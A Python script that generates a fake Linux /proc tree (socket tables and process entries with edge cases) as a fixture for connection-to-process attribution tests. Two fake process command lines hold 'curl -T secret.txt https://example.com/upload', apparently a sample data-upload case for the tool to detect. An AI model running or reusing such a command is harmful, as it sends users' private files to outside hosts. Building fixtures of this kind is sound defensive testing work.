# Regenerates proc/, the fake proc tree of the Linux attribution tests, in
# the formats of the kernel of a little-endian host. Run: python3 gen_proc_fixture.py
import os, struct, ipaddress, shutil
R = os.path.join(os.path.dirname(os.path.abspath(__file__)), "proc")
shutil.rmtree(R, ignore_errors=True)
os.makedirs(R + "/net")

def hex4(a):  # host-order u32 printed %08X
    return "%08X" % struct.unpack("<I", ipaddress.IPv4Address(a).packed)[0]
def hex6(a):
    b = ipaddress.IPv6Address(a).packed
    return "".join("%08X" % struct.unpack("<I", b[i:i+4])[0] for i in range(0, 16, 4))

def tcp_line(sl, la, lp, ra, rp, st, uid, inode, v6):
    h = hex6 if v6 else hex4
    s = "%4d: %s:%04X %s:%04X %02X %08X:%08X %02X:%08X %08X %5u %8d %u %d %016x %u %u %u %u %d" % (
        sl, h(la), lp, h(ra), rp, st, 0, 0, 0, 0, 0, uid, 0, inode, 1, 0xffff8880aa3b1200, 20, 4, 30, 10, -1)
    return s.ljust(149 if not v6 else 0) + "\n"

def udp_line(sl, la, lp, ra, rp, st, uid, inode, v6):
    h = hex6 if v6 else hex4
    s = "%5d: %s:%04X %s:%04X %02X %08X:%08X %02X:%08X %08X %5u %8d %u %d %016x %u" % (
        sl, h(la), lp, h(ra), rp, st, 0, 0, 0, 0, 0, uid, 0, inode, 2, 0xffff8880aa3b1300, 0)
    return s.ljust(127 if not v6 else 0) + "\n"

TCPH = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode".ljust(149) + "\n"
TCP6H = "  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
UDPH = "   sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops".ljust(127) + "\n"
UDP6H = "  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops\n"

open(R + "/net/tcp", "w").write(TCPH +
    tcp_line(0, "0.0.0.0", 22, "0.0.0.0", 0, 0x0A, 0, 1001, False) +
    tcp_line(1, "10.0.0.5", 51000, "93.184.216.34", 443, 0x01, 1000, 2001, False) +
    tcp_line(2, "10.0.0.5", 51002, "93.184.216.34", 443, 0x06, 0, 0, False) +
    tcp_line(3, "10.0.0.5", 51010, "203.0.113.9", 80, 0x01, 1000, 2002, False) +
    tcp_line(4, "127.0.0.1", 631, "127.0.0.1", 40404, 0x08, 0, 2003, False))
open(R + "/net/tcp6", "w").write(TCP6H +
    tcp_line(0, "::", 8080, "::", 0, 0x0A, 33, 1002, True) +
    tcp_line(1, "::ffff:10.0.0.5", 8080, "::ffff:198.51.100.7", 40000, 0x01, 33, 3001, True) +
    tcp_line(2, "2001:db8::5", 52000, "2001:db8::99", 443, 0x01, 1000, 3002, True) +
    tcp_line(3, "::1", 631, "::1", 50000, 0x0A, 0, 1003, True))
open(R + "/net/udp", "w").write(UDPH +
    udp_line(0, "0.0.0.0", 5353, "0.0.0.0", 0, 0x07, 33, 4001, False) +
    udp_line(1, "10.0.0.5", 40001, "8.8.8.8", 53, 0x01, 1000, 4002, False))
open(R + "/net/udp6", "w").write(UDP6H +
    udp_line(0, "::", 9999, "::", 0, 0x07, 33, 4003, True))

open(R + "/stat", "w").write(
    "cpu  1 2 3 4 5 6 7 0 0 0\ncpu0 1 2 3 4 5 6 7 0 0 0\nintr 0\nctxt 1234\nbtime 1700000000\nprocesses 5000\nprocs_running 1\nprocs_blocked 0\n")

def stat_line(pid, comm, state, ppid, pgrp, sid, start):
    f = [str(pid), "(%s)" % comm, state, str(ppid), str(pgrp), str(sid), "34816", str(pgrp), "4194560",
         "100", "0", "0", "0", "5", "3", "0", "0", "20", "0", "1", "0", str(start), "10485760", "500",
         "18446744073709551615"] + ["0"] * 27
    return " ".join(f) + "\n"

def status(name, uids, ppid, pid):
    return ("Name:\t%s\nUmask:\t0022\nState:\tS (sleeping)\nTgid:\t%d\nNgid:\t0\nPid:\t%d\nPPid:\t%d\n"
            "TracerPid:\t0\nUid:\t%s\nGid:\t%s\nFDSize:\t64\nGroups:\t\nThreads:\t1\n") % (
        name, pid, pid, ppid, "\t".join(map(str, uids)), "\t".join(map(str, uids)))

def proc(pid, comm, ppid, sid, start, uids, args, exe, cwd, fds, state="S"):
    d = "%s/%d" % (R, pid)
    os.makedirs(d + "/fd" if fds else d)
    open(d + "/stat", "w").write(stat_line(pid, comm, state, ppid, pid if sid == pid else ppid, sid, start))
    open(d + "/status", "w").write(status(comm, uids, ppid, pid))
    open(d + "/cmdline", "wb").write(b"".join(a.encode() + b"\0" for a in args))
    if exe: os.symlink(exe, d + "/exe")
    if cwd: os.symlink(cwd, d + "/cwd")
    for fd, target in fds.items():
        os.symlink(target, "%s/fd/%d" % (d, fd))

proc(1, "systemd", 0, 1, 2, (0, 0, 0, 0), ["/sbin/init", "splash"], "/usr/lib/systemd/systemd", "/",
     {0: "/dev/null", 1: "/dev/null", 7: "anon_inode:[eventpoll]", 8: "socket:[1001]"})
proc(100, "bash", 1, 100, 5000, (1000, 1000, 1000, 1000), ["-bash"], "/usr/bin/bash", "/home/alice",
     {0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0", 255: "/dev/pts/0"})
proc(4200, "sh", 100, 100, 90000, (1000, 1000, 1000, 1000), ["sh", "-c", "curl -T secret.txt https://example.com/upload"],
     "/usr/bin/dash", "/home/alice/docs", {0: "/dev/pts/0", 1: "pipe:[555]"})
proc(4242, "curl", 4200, 100, 90012, (1000, 1000, 1000, 1000),
     ["curl", "-T", "secret.txt", "https://example.com/upload"], "/usr/bin/curl", "/home/alice/docs",
     {0: "/dev/pts/0", 1: "pipe:[555]", 2: "/dev/pts/0", 3: "socket:[2001]", 4: "socket:[3002]",
      5: "socket:[4002]", 6: "/home/alice/docs/secret.txt", 7: "anon_inode:[eventpoll]"})
proc(777, "python3", 1, 777, 3000, (33, 33, 33, 33), ["python3", "-m", "http.server", "8080"],
     "/usr/bin/python3.11", "/var/www", {3: "socket:[1002]", 4: "socket:[3001]", 5: "socket:[4001]", 6: "socket:[4003]"})
# A 15-byte comm cut by the kernel; setuid (real 1000, effective 0); executable deleted.
proc(555, "very-long-proce", 100, 100, 95000, (1000, 0, 0, 0), ["./very-long-process-name", "--flag"],
     "/opt/bin/very-long-process-name (deleted)", "/tmp", {})
# A zombie: no exe, no cwd, empty cmdline.
proc(556, "defunct-child", 100, 100, 95500, (1000, 1000, 1000, 1000), [], None, None, {}, state="Z")
# Garbage stat.
d = R + "/666"; os.makedirs(d)
open(d + "/stat", "w").write("666 (broken\n")
# A pid whose stat names another pid.
d = R + "/667"; os.makedirs(d)
open(d + "/stat", "w").write(stat_line(668, "liar", "S", 1, 1, 1, 100))
# Not a pid.
open(R + "/version", "w").write("Linux version 6.1.0-fixture\n")
